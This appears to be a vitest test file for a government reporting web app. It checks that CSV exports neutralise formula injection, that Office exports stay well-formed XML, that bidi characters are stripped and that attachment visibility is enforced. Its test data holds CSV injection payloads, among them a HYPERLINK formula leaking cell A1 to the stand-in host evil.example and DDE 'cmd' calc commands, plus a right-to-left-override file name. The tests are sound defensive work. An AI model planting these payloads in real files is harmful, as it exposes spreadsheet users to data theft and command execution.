import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { sql, type SQL } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvText } from '../../api/lib/table-file.ts';
import {
	importPlan,
	SAMPLE_FILES,
	startTestServer,
	uploadForm,
	type Client,
	type TestServer
} from '../support/harness.ts';
import { execute, withTransaction, type Db } from '../../db/client.ts';

/** A raw write, as someone with the database file would make it. */
const write = (db: Db, statement: SQL) => withTransaction({ db }, ({ db }) => execute(db, statement));

/**
 * What users type ends up in files other people open: CSV in Excel (where a leading = runs a formula)
 * and .xlsx/.docx (where one XML-forbidden character makes the whole file unreadable).
 */
const HOSTILE = [
	'=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
	"=cmd|' /C calc'!A0",
	'+1+1',
	'-2+3',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1'
];
/** Characters XML 1.0 forbids, and a lone surrogate (in UTF-8 it becomes U+FFFD, which XML allows). */
const FORBIDDEN = '\u0000\u0001\u0008\u000B\u000C\u001F\uFFFE\uFFFF\uD800';
// eslint-disable-next-line no-control-regex -- the characters a well-formed document must not contain
const NOT_XML = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/;

let s: TestServer;
let office: Client;
let unit: Client;
let auditor: Client;
let plan: Awaited<ReturnType<typeof importPlan>>;

beforeAll(async () => {
	s = await startTestServer({ env: { SESSION_IDLE_MINUTES: '500000', SESSION_MAX_HOURS: '9000' } });
	office = await s.as('office');
	unit = await s.as('unit', '省大数据局');
	auditor = await s.as('auditor');
	plan = await importPlan(
		office,
		[
			['领域', '', HOSTILE[4]!, HOSTILE[0]!, '2020年6月底前', '省大数据局'],
			['领域', '', '数值任务', '政务服务事项网办率达到90%', '2020年12月底前', '省大数据局']
		],
		2020,
		'2020-01-01'
	);
});
afterAll(() => s.close());

const csvRows = (data: ArrayBuffer) =>
	parse(
		Buffer.from(data)
			.toString('utf8')
			.replace(/^\uFEFF/, ''),
		{ relaxQuotes: true }
	) as string[][];

/** Every XML part of an .xlsx/.docx, joined. */
async function xmlOf(data: ArrayBuffer) {
	const zip = await JSZip.loadAsync(data);
	const parts = Object.values(zip.files).filter((f) => /\.(xml|rels)$/.test(f.name));
	return (await Promise.all(parts.map((f) => f.async('string')))).join('\n');
}

const item = (indicatorId: number, text: string) => ({
	indicatorId,
	progressStatus: 'on_track',
	percent: 5,
	progress: text,
	problems: text,
	nextSteps: text
});
/** A complete month: the hostile-text indicator and the numeric one. */
const items = (hostile: string, numeric: string) => [
	item(plan.ids[HOSTILE[0]!]!, hostile),
	item(plan.ids['政务服务事项网办率达到90%']!, numeric)
];

describe('CSV formula injection', () => {
	it('one writer: text that starts a formula gets a leading apostrophe, numbers stay numbers', () => {
		const csv = csvText(
			['数值', '文字'],
			[
				[-5, '-2+3'],
				[3.5, '=1+1'],
				[0, '@A1'],
				[null, '正常 -1']
			]
		);
		expect(csvRows(new TextEncoder().encode(csv).buffer as ArrayBuffer).slice(1)).toEqual([
			['-5', "'-2+3"],
			['3.5', "'=1+1"],
			['0', "'@A1"],
			['', '正常 -1']
		]);
	});

	it('neutralises hostile report text, indicator text and a failed sign-in name in every CSV export', async () => {
		for (const [i, text] of HOSTILE.entries()) {
			const period = `2020-0${i + 1}`;
			s.clock.set(new Date(`${period}-20T02:00:00Z`));
			const res = await unit.post(`/api/v1/reports/mine/${period}/submit`, {
				revision: null,
				items: items(text, '正常')
			});
			expect(res.status, period).toBe(200);
		}
		const evilName = '=HYPERLINK("http://evil.example","x")';
		expect(
			(await s.anonymous().post('/api/v1/auth/login', { username: evilName, password: 'x' })).status
		).toBe(401);

		const exports = {
			reports: await office.get('/api/v1/reports/export?format=csv'),
			indicators: await office.get(`/api/v1/indicators/export?planId=${plan.planId}&format=csv`),
			plan: await office.get(`/api/v1/plans/${plan.planId}/export?format=csv`),
			audit: await auditor.get('/api/v1/audit/export?format=csv')
		};
		for (const [name, res] of Object.entries(exports)) {
			expect(res.status, name).toBe(200);
			const cells = csvRows(res.data).flat();
			const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
			expect(dangerous, name).toEqual([]);
		}
		const reportRows = csvRows(exports.reports.data);
		const progress = reportRows.slice(1).map((r) => r[8]);
		expect(progress.filter((p) => p !== '正常').sort()).toEqual(HOSTILE.map((t) => `'${t}`).sort());
		expect(reportRows.slice(1).every((r) => r[7] === '5')).toBe(true); // the percent column is a number
		expect(csvRows(exports.plan.data).flat()).toContain(`'${HOSTILE[0]}`);
		expect(csvRows(exports.audit.data).flat()).toContain(`'${evilName}`);
	});
});

describe('XML-forbidden characters', () => {
	it('are dropped from report text on input, and every .xlsx/.docx stays well-formed', async () => {
		s.clock.set(new Date('2020-08-20T02:00:00Z'));
		const id = plan.ids['政务服务事项网办率达到90%']!;
		const text = `进展甲${FORBIDDEN}乙`;
		const saved = await unit.post('/api/v1/reports/mine/2020-08/submit', {
			revision: null,
			items: items('正常', text)
		});
		expect(saved.status).toBe(200);
		const form = (await unit.get('/api/v1/reports/mine/2020-08')).data;
		expect(form.items.find((i: any) => i.indicatorId === id).progress).toBe('进展甲乙');
		// Text already stored before this fix, and the office's own bulletin text, are cleaned when written.
		// (PostgreSQL's text cannot hold NUL at all: the stored text there is the rest; its JSON is edited
		// with its own function.)
		const stored = s.dialect === 'postgres' ? text.replace('\u0000', '') : text;
		await write(s.db, sql`update report_item set problems = ${stored} where indicator_id = ${id}`);
		const bulletin = (await office.post('/api/v1/bulletins', { period: '2020-07' })).data;
		await write(
			s.db,
			s.dialect === 'postgres'
				? sql`update bulletin set content = jsonb_set(content::jsonb, '{texts,overview}', to_jsonb(${stored}::text))::json where id = ${bulletin.id}`
				: sql`update bulletin set content = json_set(content, '$.texts.overview', ${text}) where id = ${bulletin.id}`
		);
		const edited = await office.put(`/api/v1/bulletins/${bulletin.id}`, {
			texts: { problems: `问题丙${FORBIDDEN}丁` }
		});
		expect(edited.status).toBe(200);

		const files = {
			reports: await office.get('/api/v1/reports/export?period=2020-08&format=xlsx'),
			indicators: await office.get(`/api/v1/indicators/export?planId=${plan.planId}&format=xlsx`),
			plan: await office.get(`/api/v1/plans/${plan.planId}/export?format=xlsx`),
			bulletinDocx: await office.get(`/api/v1/bulletins/${bulletin.id}/export?format=docx`),
			bulletinXlsx: await office.get(`/api/v1/bulletins/${bulletin.id}/export?format=xlsx`),
			audit: await auditor.get('/api/v1/audit/export?format=xlsx')
		};
		for (const [name, res] of Object.entries(files)) {
			expect(res.status, name).toBe(200);
			const xml = await xmlOf(res.data);
			expect(NOT_XML.exec(xml)?.[0], `${name} carries a character XML forbids`).toBeUndefined();
		}
		expect(await xmlOf(files.reports.data)).toContain('进展甲乙');
		expect(await xmlOf(files.indicators.data)).toContain('进展甲乙');
		expect(await xmlOf(files.bulletinDocx.data)).toContain('问题丙丁');
	});
});

describe('names and figures', () => {
	it('drops bidi controls from attachment names and display names', async () => {
		const upload = await unit.post('/api/v1/attachments', uploadForm(SAMPLE_FILES.pdf, '报告\u202Excod.pdf'));
		expect(upload.status).toBe(201);
		expect(upload.data.name).toBe('报告xcod.pdf');
		const admin = await s.as('admin');
		const created = await admin.post('/api/v1/users', {
			username: 'bidi-user',
			name: '张\u202E三\u2066',
			role: 'leader',
			password: 'Passw0rd!bidi'
		});
		expect(created.status).toBe(201);
		const users = (await admin.get('/api/v1/users')).data.items;
		expect(users.find((u: any) => u.username === 'bidi-user').name).toBe('张三');
	});

	it('refuses negative and absurd actual values, naming the target', async () => {
		s.clock.set(new Date('2020-09-20T02:00:00Z'));
		const id = plan.ids['政务服务事项网办率达到90%']!;
		const form = (await unit.get('/api/v1/reports/mine/2020-09')).data;
		const target = form.items.find((i: any) => i.indicatorId === id).targets[0];
		const save = (value: number) =>
			unit.put('/api/v1/reports/mine/2020-09', {
				revision: null,
				items: [{ ...item(id, '进展'), values: [{ targetId: target.id, value }] }]
			});
		for (const value of [-5, 1e13, -1e308]) {
			const res = await save(value);
			expect(res.status, String(value)).toBe(400);
			expect(res.data.error.message).toContain(`“${target.label}”的实际值`);
		}
		// A target that is itself negative (e.g. a decline) takes negative values.
		await write(s.db, sql`update indicator_target set value = -10 where id = ${target.id}`);
		expect((await save(-5)).status).toBe(200);
	});
});

describe('attachment visibility', () => {
	it('follows what the file is attached to: a draft’s files stay with their unit until it is submitted', async () => {
		s.clock.set(new Date('2020-10-20T02:00:00Z'));
		const leader = await s.as('leader');
		const other = await s.as('unit', '省发展改革委');
		const id = plan.ids['政务服务事项网办率达到90%']!;
		const file = (await unit.post('/api/v1/attachments', uploadForm(SAMPLE_FILES.pdf, '草稿证明.pdf'))).data;
		const status = async () =>
			Promise.all(
				[unit, office, leader, other].map(async (c) => (await c.get(`/api/v1/attachments/${file.id}`)).status)
			);
		expect(await status()).toEqual([200, 404, 404, 404]); // attached to nothing yet
		const draft = await unit.put('/api/v1/reports/mine/2020-10', {
			revision: null,
			items: [{ ...item(id, '进展'), attachmentIds: [file.id] }]
		});
		expect(draft.status).toBe(200);
		expect(await status()).toEqual([200, 404, 404, 404]); // in an unsubmitted draft
		const [hostile] = items('进展', '进展');
		const submitted = await unit.post('/api/v1/reports/mine/2020-10/submit', {
			revision: draft.data.report.revision,
			items: [hostile, { ...item(id, '进展'), attachmentIds: [file.id] }]
		});
		expect(submitted.status).toBe(200);
		expect(await status()).toEqual([200, 200, 200, 404]);
	});
});
